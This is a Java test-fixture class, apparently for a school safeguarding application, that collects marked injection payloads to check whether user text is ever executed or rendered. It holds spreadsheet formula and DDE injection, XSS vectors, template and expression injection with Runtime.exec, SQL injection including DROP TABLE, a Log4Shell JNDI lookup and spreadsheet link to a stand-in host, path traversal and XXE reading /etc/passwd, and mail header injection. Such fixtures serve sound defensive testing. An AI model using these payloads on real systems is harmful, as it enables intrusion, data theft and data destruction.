package school.safeguarding.story;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What somebody types who wants more than to be read. If any of it is worked out, {@link #RESULT} is seen. */
public final class Hostile {

    /** Of the sum in each of the texts; no text holds it. */
    public static final String RESULT = "62615533";

    /** Stands in each of the texts, so that they are found wherever they went. */
    public static final String MARK = "Zzhostile";

    private static final String SUM = "7919*7907";
    private static final int SHORT_FIELD = 200;

    /** Each fits on one line. */
    public static final List<String> LINES = List.of(
            "=" + SUM + " " + MARK,
            "= " + SUM + " " + MARK,
            "+" + SUM + " " + MARK,
            "-" + SUM + " " + MARK,
            "@SUM(" + SUM + ") " + MARK,
            "=HYPERLINK(\"http://x.invalid/?\"&A1;\"" + MARK + "\")",
            "=cmd|' /C calc'!A0 " + MARK,
            "<script>document.title=" + SUM + "</script>" + MARK,
            "<img src=x onerror=alert(" + SUM + ")>" + MARK,
            "\"><svg/onload=alert(" + SUM + ")>" + MARK,
            "<a href=\"javascript:alert(" + SUM + ")\">" + MARK + "</a>",
            "&lt;b&gt; &amp; &#60;script&#62; " + MARK,
            "[" + MARK + "](javascript:alert(" + SUM + "))",
            "![" + MARK + "](http://x.invalid/pixel.png)",
            "{{record.childName}} {{" + SUM + "}} {{this.answer}} " + MARK,
            "{{#if true}}" + MARK + "{{/if}} {{{" + SUM + "}}} {{constructor.constructor('return " + SUM + "')()}}",
            "${" + SUM + "} #{" + SUM + "} *{" + SUM + "} ~{" + SUM + "} " + MARK,
            "${execution.getProcessEngineServices()} #{task.delete()} " + MARK,
            "T(java.lang.Runtime).getRuntime().exec('x') " + MARK,
            "<#assign x=" + SUM + ">${x} <@x/> [#if true]" + MARK + "[/#if]",
            "{% print " + SUM + " %} {%raw%} {# " + SUM + " #} " + MARK,
            "<%= " + SUM + " %> <?= " + SUM + " ?> @(" + SUM + ") " + MARK,
            "[[${" + SUM + "}]] [[front-door]] [[outside-hours]] " + MARK,
            "{sender} {reference} {link} {number} {detail} {step} {school} " + MARK,
            "$0 $1 \\1 \\\\ \\n \\u0041 %s %n %d %00 " + MARK,
            "'; DROP TABLE safeguarding.entry; -- " + MARK,
            "' OR '1'='1' UNION SELECT " + SUM + " /* " + MARK,
            "${jndi:ldap://x.invalid/a} ${env:PATH} " + MARK,
            "../../../etc/passwd ..\\..\\ " + MARK,
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + MARK + "&e;",
            "{\"value\":{\"@class\":\"java.lang.Object\"}} " + MARK);

    /** Each needs more lines than one. */
    public static final List<String> PARAGRAPHS = List.of(
            MARK + "\r\nBcc: everyone@x.invalid\r\nX-Injected: yes\r\n\r\nA body of my own",
            MARK + "\nTo: everyone@x.invalid\nSubject: " + SUM + "\n.\nQUIT\n",
            "---\n" + MARK + ": !!javax.script.ScriptEngineManager []\n...",
            "# " + MARK + "\n\n* one\n* <b>two</b>\n\n| a | b |\n|---|---|\n");

    private Hostile() {}

    public static List<String> all() {
        return Stream.concat(LINES.stream(), PARAGRAPHS.stream()).toList();
    }

    /** All of it, for a field that holds long text; the first is a spreadsheet's formula. */
    public static String inOneText() {
        return String.join("\n", all()).strip();
    }

    /** As many of the lines together as a short field takes, until none is left out. */
    public static List<String> inShortTexts() {
        List<String> texts = new ArrayList<>();
        String text = "";
        for (String line : LINES) {
            String longer = text.isEmpty() ? line : text + " " + line;
            if (longer.length() > SHORT_FIELD) {
                texts.add(text);
                longer = line;
            }
            text = longer;
        }
        texts.add(text);
        return texts;
    }
}
